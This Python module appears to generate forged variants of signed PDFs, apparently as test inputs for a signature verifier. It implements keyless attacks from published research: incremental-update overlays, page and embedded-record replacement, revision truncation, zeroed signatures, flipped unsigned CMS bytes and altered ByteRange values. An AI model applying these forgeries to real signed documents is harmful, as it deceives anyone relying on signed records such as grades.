"""Attacks on a signed PDF that need no key: byte edits and incremental updates (classes of Rohlmann et al., 2021).

Each takes the genuine bytes and returns what a forger would hand on.
"""

import re
from collections.abc import Iterator
from dataclasses import dataclass, field

from asn1crypto import cms

_END = re.compile(rb"startxref[\r\n ]+(\d+)[\r\n ]+%%EOF(?:\r\n|\n|\r)?")


def revision_ends(data: bytes) -> list[int]:
    """Where each revision ends, oldest first."""
    return [match.end() for match in _END.finditer(data)]


@dataclass
class Update:
    """An incremental update under construction."""

    data: bytes
    objects: dict[int, bytes] = field(default_factory=dict)

    @property
    def size(self) -> int:
        """The next free object number."""
        return max(int(match[1]) for match in re.finditer(rb"/Size (\d+)", self.data))

    def object_text(self, number: int) -> bytes:
        """The newest text between `obj` and `endobj` of an object without a stream."""
        found = re.findall(rb"(?:^|[\r\n])%d 0 obj\s*(.*?)\s*endobj" % number, self.data, re.S)
        return bytes(found[-1])

    def written(self) -> bytes:
        """The file with the update appended."""
        out, offsets = bytearray(self.data), {}
        if not out.endswith(b"\n"):
            out += b"\n"
        for number, text in sorted(self.objects.items()):
            offsets[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
        table = len(out)
        previous = int(_END.findall(self.data)[-1])
        size = max(self.size, max(offsets, default=0) + 1)
        if not self.data.startswith(b"xref", previous):
            return bytes(out) + self._stream(offsets | {size: table}, size, previous)
        out += b"xref\n"
        for number, offset in offsets.items():
            out += b"%d 1\n%010d 00000 n \n" % (number, offset)
        root = re.findall(rb"/Root (\d+ 0 R)", self.data)[-1]
        out += b"trailer\n<</Size %d /Root %s /Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, previous, table)
        return bytes(out)

    def _stream(self, offsets: dict[int, int], number: int, previous: int) -> bytes:
        """A file whose cross-references are streams goes on with one."""
        rows = b"".join(b"\x01%b\x00\x00" % offsets[each].to_bytes(4, "big") for each in sorted(offsets))
        index = b" ".join(b"%d 1" % each for each in sorted(offsets))
        root = re.findall(rb"/Root (\d+ 0 R)", self.data)[-1]
        entries = b"/Type/XRef/Size %d/Root %s/W[1 4 2]/Index[%s]/Prev %d/Length %d" % (number + 1, root, index, previous, len(rows))
        return b"%d 0 obj\n<<%s>>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (number, entries, rows, offsets[number])


def number_of(data: bytes, pattern: bytes) -> int:
    """The number of the newest object whose text matches."""
    found = [match for match in re.finditer(rb"(?:^|[\r\n])(\d+) 0 obj(.*?)endobj", data, re.S) if re.search(pattern, match[2])]
    return int(found[-1][1])


def trailing_bytes(data: bytes) -> bytes:
    """Something behind the end mark."""
    return data + b"\n% Xin chao\n"


def cut_short(data: bytes) -> bytes:
    """The last revision loses its end."""
    return data[:-200]


def truncated_to_first_signature(data: bytes) -> bytes:
    """Only the homeroom teacher's revision is left: her signature is still valid."""
    return data[: revision_ends(data)[1]]


def truncated_to_body(data: bytes) -> bytes:
    """No signature is left."""
    return data[: revision_ends(data)[0]]


def flipped_bit(data: bytes) -> bytes:
    """One bit of the first page's content stream."""
    at = data.index(b"stream\n", data.index(b"/FlateDecode")) + 60
    return data[:at] + bytes((data[at] ^ 1,)) + data[at + 1 :]


def painted_field(data: bytes) -> bytes:
    """A new empty signature field whose appearance paints another mark over the page (SSA)."""
    update = Update(data)
    form, page = number_of(data, rb"/Fields \["), number_of(data, rb"/Annots \[")
    widget, appearance = update.size, update.size + 1
    update.objects[widget] = b"<</Type/Annot/Subtype/Widget/FT/Sig/T(Moi)/F 4/Rect[50 700 200 750]/P %d 0 R/AP<</N %d 0 R>>>>" % (page, appearance)
    paint = b"1 1 1 rg 0 0 150 50 re f 0 g 10 10 m 100 40 l S"
    update.objects[appearance] = b"<</Type/XObject/Subtype/Form/BBox[0 0 150 50]/Length %d>>\nstream\n%s\nendstream" % (
        len(paint),
        paint,
    )
    update.objects[form] = update.object_text(form).replace(b"/Fields [", b"/Fields [ %d 0 R" % widget)
    update.objects[page] = update.object_text(page).replace(b"/Annots [", b"/Annots [ %d 0 R" % widget)
    return update.written()


def replaced_page(data: bytes) -> bytes:
    """The page points at new content (ISA)."""
    update = Update(data)
    page = number_of(data, rb"/Annots \[")
    content = update.size
    update.objects[content] = b"<</Length 12>>\nstream\n0 0 9 9 re f\nendstream"
    update.objects[page] = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % content, update.object_text(page))
    return update.written()


def free_text_annotation(data: bytes) -> bytes:
    """A note over the mark (EAA)."""
    update = Update(data)
    page = number_of(data, rb"/Annots \[")
    note = update.size
    update.objects[note] = b"<</Type/Annot/Subtype/FreeText/Rect[50 700 200 750]/Contents(10.0)/DA(/Helv 12 Tf)>>"
    update.objects[page] = update.object_text(page).replace(b"/Annots [", b"/Annots [ %d 0 R" % note)
    return update.written()


def empty_update(data: bytes) -> bytes:
    """A revision that writes one object nobody refers to."""
    update = Update(data)
    update.objects[update.size] = b"<</Note (nothing)>>"
    return update.written()


def replaced_record(data: bytes, record: bytes) -> bytes:
    """Other machine-readable data under the same name, by an update."""
    update = Update(data)
    number = number_of(data, rb"/Type /EmbeddedFile")
    update.objects[number] = b"<</Type /EmbeddedFile /Length %d>>\nstream\n%s\nendstream" % (len(record), record)
    return update.written()


def zeroed_signature(data: bytes) -> bytes:
    """The last signature's value becomes zeros (USF)."""
    at = list(re.finditer(rb"/Contents ?<", data))[-1].end()
    end = data.index(b">", at)
    return data[:at] + b"0" * (end - at) + data[end:]


def flipped_unsigned_parts(data: bytes, which: int) -> Iterator[bytes]:
    """One bit of each byte of a container that neither the signature nor a certificate's own covers: frame, signer's id, algorithms."""
    start, end = list(re.finditer(rb"/Contents ?<([0-9A-Fa-f]+)>", data))[which].span(1)
    container = cms.ContentInfo.load(bytes.fromhex(data[start:end].decode()))
    content, whole = container["content"], container.dump()
    signer = content["signer_infos"][0]
    parts = [content["digest_algorithms"], content["encap_content_info"], signer["sid"], signer["digest_algorithm"], signer["signature_algorithm"]]
    last = whole.rindex(signer["signature"].dump())
    for part in (part.dump() for part in parts):
        # The signer's own parts stand behind the certificates, which name the same things.
        first = whole.rindex(part, 0, last)
        for place in range(first, first + len(part)):
            at = start + 2 * place
            changed = int(data[at : at + 2], 16) ^ 1 << place % 8
            yield data[:at] + b"%02X" % changed + data[at + 2 :]


def widened_gap(data: bytes) -> bytes:
    """The last signature leaves out more than its value (SWA)."""
    match = list(re.finditer(rb"/ByteRange ?\[\s*0 (\d+) (\d+) (\d+)\s*\]", data))[-1]
    earlier = b"%d" % (int(match[1]) - 40)
    return data[: match.start(1)] + earlier.rjust(len(match[1]), b"0") + data[match.end(1) :]


def shortened_range(data: bytes) -> bytes:
    """The last signature leaves out the end of the file."""
    match = list(re.finditer(rb"/ByteRange ?\[\s*0 (\d+) (\d+) (\d+)\s*\]", data))[-1]
    shorter = b"%d" % (int(match[3]) - 9)
    return data[: match.start(3)] + shorter.rjust(len(match[3]), b"0") + data[match.end(3) :]
